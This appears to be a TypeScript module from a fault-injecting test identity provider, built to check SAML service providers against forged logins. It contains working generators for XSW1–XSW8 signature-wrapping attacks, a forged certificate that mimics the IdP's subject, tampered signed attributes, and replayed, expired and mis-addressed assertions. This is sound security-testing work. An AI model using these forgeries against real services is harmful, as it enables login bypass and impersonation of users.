import { generateKeyPairSync, type KeyObject, X509Certificate } from 'node:crypto';
import { LOA, type Loa } from '@kakehashi/personas';
import { type DnAttribute, issueCertificate } from '@kakehashi/trust';
import { LOA_ORDER, loaRank } from '../../loa/loa.ts';
import { STATUS } from '../constants.ts';
import { SAML_FORGE_FAULTS, type SamlForgeFault } from '../faults.ts';
import type { AssertionOverrides, ResponseForgery } from '../response/build-response.ts';
import type { SamlContext } from '../saml-context.ts';
import { newSamlId } from '../xml/dom.ts';
import type { XmlSigner } from '../xml/sign-xml.ts';
import { encryptElement } from '../xml/xml-encryption.ts';
import type { SamlStatus, ValidatedAuthnRequest } from './z-saml-request.ts';

/** How far in the past a `saml.expired` assertion was issued (its NotOnOrAfter is 5 minutes later). */
export const EXPIRED_BY_MS = 3600_000;
/** The class a `saml.loa-too-low` assertion states when `low` was requested (there is no eIDAS level below it). */
export const BELOW_LOW = 'urn:oasis:names:tc:SAML:2.0:ac:classes:unspecified';

/** Everything a forged login changes, decided once per Response from the faults that fired. */
export interface ForgeryPlan {
  fired: ReadonlySet<SamlForgeFault>;
  /** The instant the assertion (and its Response) claim to be issued at. */
  issuedAtMs: number;
  /** The LoA the assertion states instead of the one reached, when downgraded. */
  loa?: Loa | undefined;
  assertion: AssertionOverrides;
  /** The Response's Issuer, Destination and InResponseTo. */
  issuer: string;
  destination: string;
  inResponseTo: string;
  signer: XmlSigner;
  status: SamlStatus;
  response: Omit<ResponseForgery, 'wrapAssertion' | 'extensionsXml' | 'wrapResponse'>;
  /** The signature-wrapping variant (XSW1–XSW8) when an evil assertion goes with the signed one. */
  xsw?: XswVariant | undefined;
}

/** SAML Raider's signature-wrapping variants (Somorovsky et al.), as the attack catalogue's S1–S8 number them. */
export type XswVariant = 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;

/** The wrapping fault of each variant: `saml.wrapped-assertion` is XSW3 (the contract name), the others by number. */
export const XSW_FAULTS: Readonly<Record<XswVariant, SamlForgeFault>> = {
  1: 'saml.wrapped-assertion.xsw1',
  2: 'saml.wrapped-assertion.xsw2',
  3: 'saml.wrapped-assertion',
  4: 'saml.wrapped-assertion.xsw4',
  5: 'saml.wrapped-assertion.xsw5',
  6: 'saml.wrapped-assertion.xsw6',
  7: 'saml.wrapped-assertion.xsw7',
  8: 'saml.wrapped-assertion.xsw8',
};

/**
 * Decides the defects of one Response: every `saml.*` fault that is on — switched on for all, asked for by the
 * request being served, or carried with the pending request (`request.faults`) — fires (logged, on the trace hop)
 * and changes exactly its part; with none on, the plan is the correct Response.
 * @see ../../../../../../shared/design/attack-catalogue.md (S1–S19)
 * @see https://docs.oasis-open.org/security/saml/v2.0/saml-profiles-2.0-os.pdf (§4.1.4.2, what each defect breaks)
 */
export function planForgery(ctx: SamlContext, request: ValidatedAuthnRequest): ForgeryPlan {
  const { deps } = ctx;
  const now = deps.clock.nowMs();
  const fired = new Set(
    SAML_FORGE_FAULTS.filter((name) =>
      deps.faults.fire(name, request.faults, { sp: request.spEntityId, requestId: request.requestId }),
    ),
  );
  const on = (f: SamlForgeFault) => fired.has(f);
  const otherRequest = on('saml.wrong-in-response-to') ? newSamlId() : undefined;
  const otherAcs = on('saml.wrong-destination') ? `${ctx.base}/saml/forged-elsewhere/acs` : undefined;
  const otherIssuer = on('saml.wrong-issuer') ? `${ctx.base}/saml/forged-idp/metadata` : undefined;
  const replayedId = on('saml.replayed-assertion') ? ctx.lastAssertionIds.get(request.spEntityId) : undefined;
  return {
    fired,
    issuedAtMs: on('saml.expired') ? now - EXPIRED_BY_MS : now,
    loa: on('saml.loa-too-low') ? loaBelow(request.requestedLoa) : undefined,
    assertion: {
      id: replayedId,
      issuer: otherIssuer,
      audience: on('saml.wrong-audience') ? 'urn:kakehashi:forged:another-sp' : undefined,
      recipient: otherAcs,
      inResponseTo: otherRequest,
    },
    issuer: otherIssuer ?? ctx.idpEntityId,
    destination: otherAcs ?? request.acsUrl,
    inResponseTo: otherRequest ?? request.requestId,
    signer: on('saml.attacker-key') ? attackerSigner(ctx.signer.certPem) : ctx.signer,
    status: on('saml.assertion-in-failed-response')
      ? {
          top: STATUS.responder,
          second: STATUS.authnFailed,
          message: 'Authentication failed (forged: the assertion is carried anyway).',
        }
      : { top: STATUS.success, message: 'Success' },
    response: {
      unsignedAssertion: on('saml.unsigned-assertion'),
      assertionDespiteStatus: on('saml.assertion-in-failed-response'),
      tamper: on('saml.tampered-assertion') ? tamperDateOfBirth : undefined,
    },
    xsw: (Object.entries(XSW_FAULTS) as [string, SamlForgeFault][])
      .filter(([, name]) => on(name))
      .map(([n]) => Number(n) as XswVariant)[0],
  };
}

const SIGNATURE = /<ds:Signature[\s\S]*?<\/ds:Signature>/;
const withoutSignature = (xml: string) => xml.replace(SIGNATURE, '');
const signatureOf = (xml: string) => SIGNATURE.exec(xml)?.[0] ?? '';
const afterFirstIssuer = (xml: string, insert: string) => xml.replace('</saml:Issuer>', `</saml:Issuer>${insert}`);
/** The signature copy with `inside` as its last child (the original hidden in the signature: XSW1, XSW6). */
const signatureHolding = (sig: string, inside: string) => sig.replace(/<\/ds:Signature>$/, `${inside}</ds:Signature>`);

/**
 * How an evil, unsigned assertion (`evil`, for another person) is wrapped around the signed one, as SAML Raider
 * builds each variant: the original's signature copied into the evil element where the variant needs it, the
 * original moved beside, into or below it. XSW1/XSW2 wrap the whole signed Response in an evil Response whose
 * EncryptedAssertion holds the evil assertion; XSW7 hides the evil assertion in samlp:Extensions.
 * @see https://www.usenix.org/conference/usenixsecurity12/technical-sessions/presentation/somorovsky
 * @see https://github.com/CompassSecurity/SAMLRaider (XSW1–XSW8)
 */
export function wrapping(
  xsw: XswVariant,
  evil: string,
  encryptFor: { certPem: string; entityId: string },
): Pick<ResponseForgery, 'wrapAssertion' | 'extensionsXml' | 'wrapResponse'> {
  switch (xsw) {
    case 3: // an evil sibling before the signed assertion
      return { wrapAssertion: (signed) => evil + signed };
    case 4: // the signed assertion nested inside the evil one
      return { wrapAssertion: (signed) => evil.replace(/<\/saml:Assertion>$/, `${signed}</saml:Assertion>`) };
    case 5: // the evil assertion carries the original's signature; the original follows, unsigned
      return { wrapAssertion: (signed) => afterFirstIssuer(evil, signatureOf(signed)) + withoutSignature(signed) };
    case 6: // ... and the original sits inside that signature
      return {
        wrapAssertion: (signed) =>
          afterFirstIssuer(evil, signatureHolding(signatureOf(signed), withoutSignature(signed))),
      };
    case 8: // ... inside a ds:Object of that signature
      return {
        wrapAssertion: (signed) =>
          afterFirstIssuer(
            evil,
            signatureHolding(signatureOf(signed), `<ds:Object>${withoutSignature(signed)}</ds:Object>`),
          ),
      };
    case 7:
      return { extensionsXml: evil };
    default: // 1, 2: an evil Response (fresh ID, the evil assertion encrypted) around the signed original
      return {
        wrapResponse: (signed) => {
          const evilResponse = signed
            .replace(/^(<samlp:Response [^>]*?\bID=")[^"]+/, `$1${newSamlId()}`)
            .replace(
              /<saml:EncryptedAssertion>[\s\S]*<\/saml:EncryptedAssertion>/,
              `<saml:EncryptedAssertion>${encryptElement(evil, encryptFor.certPem, encryptFor.entityId)}</saml:EncryptedAssertion>`,
            );
          const original = withoutSignature(signed);
          return xsw === 1
            ? evilResponse.replace(SIGNATURE, (sig) => signatureHolding(sig, original))
            : afterFirstIssuer(evilResponse, original);
        },
      };
  }
}

/** One level below `requested`; below low, a class that is no eIDAS level at all. */
function loaBelow(requested: Loa): Loa {
  const rank = loaRank(requested);
  return rank <= 1 ? (BELOW_LOW as Loa) : (LOA_ORDER[rank - 2] ?? LOA.low);
}

/** Changes the DateOfBirth value of a signed assertion (after signing: the Reference digest no longer matches). */
export function tamperDateOfBirth(signedXml: string): string {
  return signedXml.replace(/(DateOfBirthType">)([^<]*)/, (_m, open: string, value: string) =>
    value === '1900-01-01' ? `${open}1901-01-01` : `${open}1900-01-01`,
  );
}

let attackerKey: { privateKey: KeyObject; publicKey: KeyObject } | undefined;
const attackerCerts = new Map<string, string>();
const DN_TYPES = new Set<DnAttribute['type']>(['C', 'O', 'OU', 'CN', 'L', 'serialNumber']);

/**
 * The attacker's signer for `saml.attacker-key`: a fresh RSA key (one per process) and a self-signed certificate
 * with the same subject name as the IdP's certificate — what a naive SP that trusts KeyInfo, or compares names,
 * accepts.
 */
export function attackerSigner(idpCertPem: string): XmlSigner {
  attackerKey ??= generateKeyPairSync('rsa', { modulusLength: 2048 });
  let certPem = attackerCerts.get(idpCertPem);
  if (!certPem) {
    const idpCert = new X509Certificate(idpCertPem);
    const subject = idpCert.subject
      .split('\n')
      .map((line) => {
        const eq = line.indexOf('=');
        return { type: line.slice(0, eq) as DnAttribute['type'], value: line.slice(eq + 1) };
      })
      .filter((a) => DN_TYPES.has(a.type));
    certPem = issueCertificate(
      {
        subject,
        serialHex: '0badc0de',
        notBefore: new Date(idpCert.validFrom),
        notAfter: new Date(idpCert.validTo),
        keyUsage: ['digitalSignature'],
      },
      attackerKey.publicKey,
      { selfSigningKey: attackerKey.privateKey },
    ).certPem;
    attackerCerts.set(idpCertPem, certPem);
  }
  return { privateKey: attackerKey.privateKey, certPem };
}
